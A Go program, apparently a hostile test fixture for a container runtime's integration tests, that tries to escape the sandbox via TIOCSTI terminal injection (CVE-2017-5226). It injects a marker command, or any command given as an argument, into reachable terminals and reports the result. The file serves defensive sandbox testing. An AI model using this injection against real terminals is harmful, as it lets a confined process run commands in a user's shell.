// Command tiocsti is a hostile container process for the integration
// tests (CVE-2017-5226): it tries to push a line of input into every
// terminal it can reach, through its stdio and /dev/tty, and reports on
// stdout, one line each, whether the kernel took it. It also reports
// whether it has a controlling terminal at all.
package main

import (
	"fmt"
	"os"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	line := "touch /tmp/hull-tiocsti-pwned\n"
	if len(os.Args) > 1 {
		line = os.Args[1] + "\n"
	}
	for fd := 0; fd <= 2; fd++ {
		fmt.Printf("fd %d: %s\n", fd, inject(fd, line))
	}
	tty, err := os.OpenFile("/dev/tty", os.O_RDWR, 0)
	if err != nil {
		fmt.Printf("/dev/tty: refused (%v)\n", err)
	} else {
		fmt.Printf("/dev/tty: %s\n", inject(int(tty.Fd()), line))
		tty.Close()
	}
	fmt.Printf("controlling tty: %s\n", controllingTTY())
}

// inject pushes line into the terminal behind fd, one byte at a time.
func inject(fd int, line string) string {
	if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
		return "refused (not a terminal)"
	}
	for i := 0; i < len(line); i++ {
		b := line[i]
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b))); errno != 0 {
			return fmt.Sprintf("refused (%v)", errno)
		}
	}
	return "INJECTED"
}

// controllingTTY reads tty_nr from /proc/self/stat: 0 means none.
func controllingTTY() string {
	data, err := os.ReadFile("/proc/self/stat")
	if err != nil {
		return "unknown (" + err.Error() + ")"
	}
	s := string(data)
	// The command name may hold spaces: fields start after the last ')'.
	f := strings.Fields(s[strings.LastIndexByte(s, ')')+1:])
	if len(f) < 5 {
		return "unknown"
	}
	if f[4] == "0" {
		return "none"
	}
	return "tty_nr " + f[4]
}
